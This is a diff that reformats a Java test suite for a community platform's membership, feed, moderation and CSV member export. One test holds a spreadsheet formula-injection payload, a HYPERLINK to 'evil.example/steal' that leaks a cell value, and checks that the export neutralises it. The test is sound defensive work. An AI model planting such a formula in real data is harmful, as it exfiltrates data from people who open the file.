@@ -31,14 +31,19 @@ class CommunityServiceTest {
 
     @Autowired
     TestData data;
+
     @Autowired
     CommunityService communities;
+
     @Autowired
     FeedService feed;
+
     @Autowired
     ModerationService moderation;
+
     @Autowired
     ApplicationEvents events;
+
     @Autowired
     AccountProvisioning provisioning;
 
@@ -59,9 +64,15 @@ class CommunityServiceTest {
         other = data.person(tenant, Role.MEMBER, "other@comm.example");
         ambassador = data.person(tenant, Role.AMBASSADOR, "amb@comm.example");
         TestData.signIn(manager);
-        open = communities.create(new CommunityForm("Runners", "We run", Visibility.OPEN, null)).id();
-        inviteOnly = communities.create(new CommunityForm("Insiders", "", Visibility.INVITE_ONLY, null)).id();
-        ambassadorsOnly = communities.create(new CommunityForm("Ambassadors", "", Visibility.AMBASSADORS_ONLY, null)).id();
+        open = communities
+                .create(new CommunityForm("Runners", "We run", Visibility.OPEN, null))
+                .id();
+        inviteOnly = communities
+                .create(new CommunityForm("Insiders", "", Visibility.INVITE_ONLY, null))
+                .id();
+        ambassadorsOnly = communities
+                .create(new CommunityForm("Ambassadors", "", Visibility.AMBASSADORS_ONLY, null))
+                .id();
     }
 
     @AfterEach
@@ -111,12 +122,14 @@ class CommunityServiceTest {
         TestData.signIn(other);
         communities.join(inviteOnly);
         TestData.signIn(manager);
-        assertThat(communities.pendingRequests(inviteOnly, 10)).extracting(p -> p.id())
+        assertThat(communities.pendingRequests(inviteOnly, 10))
+                .extracting(p -> p.id())
                 .containsExactly(member.accountId(), other.accountId());
         communities.acceptRequest(inviteOnly, member.accountId());
         communities.declineRequest(inviteOnly, other.accountId());
         assertThat(events.stream(CommunityActivity.JoinRequestAccepted.class))
-                .containsExactly(new CommunityActivity.JoinRequestAccepted(tenant.id(), inviteOnly, member.accountId()));
+                .containsExactly(
+                        new CommunityActivity.JoinRequestAccepted(tenant.id(), inviteOnly, member.accountId()));
         assertThat(communities.pendingRequests(inviteOnly, 10)).isEmpty();
         TestData.signIn(member);
         assertThat(communities.find(inviteOnly).orElseThrow().member()).isTrue();
@@ -144,12 +157,12 @@ class CommunityServiceTest {
 
         assertThat(events.stream(CommunityActivity.PostPublished.class))
                 .containsExactly(new CommunityActivity.PostPublished(tenant.id(), open, post.id(), member.accountId()));
-        assertThat(events.stream(CommunityActivity.CommentAdded.class)).containsExactly(
-                new CommunityActivity.CommentAdded(tenant.id(), open, post.id(), comment.id(), other.accountId(),
-                        member.accountId()));
-        assertThat(events.stream(CommunityActivity.ReactionAdded.class)).containsExactly(
-                new CommunityActivity.ReactionAdded(tenant.id(), open, post.id(), other.accountId(),
-                        member.accountId(), "LOVE"));
+        assertThat(events.stream(CommunityActivity.CommentAdded.class))
+                .containsExactly(new CommunityActivity.CommentAdded(
+                        tenant.id(), open, post.id(), comment.id(), other.accountId(), member.accountId()));
+        assertThat(events.stream(CommunityActivity.ReactionAdded.class))
+                .containsExactly(new CommunityActivity.ReactionAdded(
+                        tenant.id(), open, post.id(), other.accountId(), member.accountId(), "LOVE"));
     }
 
     @Test
@@ -167,9 +180,10 @@ class CommunityServiceTest {
     @Test
     void onlyMembersMayPost() {
         TestData.signIn(member);
-        assertThatThrownBy(() -> feed.publish(open, "Hi", null)).isInstanceOf(InvalidInputException.class)
-                .extracting(e -> ((InvalidInputException) e).fieldErrors()).isEqualTo(
-                        java.util.Map.of("body", "community.error.not-member"));
+        assertThatThrownBy(() -> feed.publish(open, "Hi", null))
+                .isInstanceOf(InvalidInputException.class)
+                .extracting(e -> ((InvalidInputException) e).fieldErrors())
+                .isEqualTo(java.util.Map.of("body", "community.error.not-member"));
     }
 
     @Test
@@ -208,7 +222,8 @@ class CommunityServiceTest {
         assertThatThrownBy(() -> feed.publish(open, "pic", new ImageUpload("x.png", "<svg/>".getBytes())))
                 .extracting(e -> ((InvalidInputException) e).fieldErrors())
                 .isEqualTo(java.util.Map.of("image", "validation.upload-not-image"));
-        assertThatThrownBy(() -> feed.publish(open, "pic", new ImageUpload("x.png", new byte[CommunityImages.MAX_BYTES + 1])))
+        assertThatThrownBy(() ->
+                        feed.publish(open, "pic", new ImageUpload("x.png", new byte[CommunityImages.MAX_BYTES + 1])))
                 .extracting(e -> ((InvalidInputException) e).fieldErrors())
                 .isEqualTo(java.util.Map.of("image", "validation.upload-too-large"));
     }
@@ -242,7 +257,8 @@ class CommunityServiceTest {
         communities.join(open);
         feed.report(ContentType.POST, post, "Rude");
         TestData.signIn(manager);
-        assertThat(moderation.queue(true, PageRequest.of(0, 10)).getContent()).singleElement()
+        assertThat(moderation.queue(true, PageRequest.of(0, 10)).getContent())
+                .singleElement()
                 .satisfies(r -> {
                     assertThat(r.reason()).isEqualTo("Rude");
                     assertThat(r.excerpt()).isEqualTo("rude words");
@@ -252,14 +268,15 @@ class CommunityServiceTest {
         assertThat(moderation.countQueue(true)).isZero();
         assertThat(events.stream(CommunityActivity.ContentModerated.class))
                 .usingRecursiveFieldByFieldElementComparatorIgnoringFields("moderationId")
-                .containsExactly(new CommunityActivity.ContentModerated(tenant.id(), open, "POST", post,
-                        member.accountId(), true, "Be kind", "any"));
+                .containsExactly(new CommunityActivity.ContentModerated(
+                        tenant.id(), open, "POST", post, member.accountId(), true, "Be kind", "any"));
 
         TestData.signIn(other);
         assertThat(feed.feed(open, null, 20).posts()).isEmpty();
         assertThat(feed.post(post)).isEmpty();
         TestData.signIn(member);
-        assertThat(feed.feed(open, null, 20).posts()).singleElement()
+        assertThat(feed.feed(open, null, 20).posts())
+                .singleElement()
                 .satisfies(p -> assertThat(p.hiddenReason()).isEqualTo("Be kind"));
 
         TestData.signIn(manager);
@@ -294,8 +311,11 @@ class CommunityServiceTest {
         assertThat(stats.weeks()).hasSize(8);
         assertThat(stats.weeks().get(7).posts()).isEqualTo(1);
         assertThat(stats.weeks().get(7).comments()).isEqualTo(1);
-        assertThat(stats.mostActive()).singleElement().satisfies(a -> assertThat(a.memberId()).isEqualTo(member.accountId()));
-        assertThat(moderation.members(open, null, PageRequest.of(0, 10)).getContent()).singleElement()
+        assertThat(stats.mostActive())
+                .singleElement()
+                .satisfies(a -> assertThat(a.memberId()).isEqualTo(member.accountId()));
+        assertThat(moderation.members(open, null, PageRequest.of(0, 10)).getContent())
+                .singleElement()
                 .satisfies(m -> assertThat(m.posts()).isEqualTo(1));
         StringWriter csv = new StringWriter();
         moderation.exportMembers(open, null, csv);
@@ -305,18 +325,23 @@ class CommunityServiceTest {
     @Test
     void theMemberExportNeutralisesADisplayNameASpreadsheetWouldRunAsAFormula() throws Exception {
         String formula = "=HYPERLINK(\"https://evil.example/steal?d=\"&A1,\"Click me\")";
-        long id = TestData.asPlatformAdmin(() -> provisioning.createActiveAccount(tenant.id(), "formula@comm.example",
-                formula, Role.MEMBER, TestData.PASSWORD, Locale.ENGLISH));
-        TestData.signIn(new AuthenticatedUser(id, tenant.id(), tenant.slug(), "formula@comm.example", formula,
-                Role.MEMBER.name(), 1));
+        long id = TestData.asPlatformAdmin(() -> provisioning.createActiveAccount(
+                tenant.id(), "formula@comm.example", formula, Role.MEMBER, TestData.PASSWORD, Locale.ENGLISH));
+        TestData.signIn(new AuthenticatedUser(
+                id, tenant.id(), tenant.slug(), "formula@comm.example", formula, Role.MEMBER.name(), 1));
         communities.join(open);
         TestData.signIn(manager);
 
         StringWriter csv = new StringWriter();
         moderation.exportMembers(open, null, csv);
 
-        List<CSVRecord> records = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
-                .parse(new StringReader(csv.toString())).getRecords();
+        List<CSVRecord> records = CSVFormat.DEFAULT
+                .builder()
+                .setHeader()
+                .setSkipHeaderRecord(true)
+                .get()
+                .parse(new StringReader(csv.toString()))
+                .getRecords();
         assertThat(records).singleElement().satisfies(r -> {
             assertThat(r.get("name")).isEqualTo("'" + formula);
             assertThat(r.get("member_id")).isEqualTo(Long.toString(id));
